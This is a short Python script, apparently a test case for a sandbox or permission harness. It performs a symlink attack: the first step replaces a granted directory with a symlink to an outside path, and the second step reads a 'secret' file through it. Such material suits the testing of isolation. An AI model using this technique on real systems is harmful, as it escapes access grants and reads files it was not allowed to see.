# The first command puts a link where the second one's grant is; the second one reads through it.
import os

from inside import run, show


def attack(target):
    if target.step == 1:
        os.rmdir(target.inner)
        os.symlink(target.outside, target.inner)
        return
    with open(f"{target.outside}/secret", "rb") as file:
        show(file.read())


run(attack)
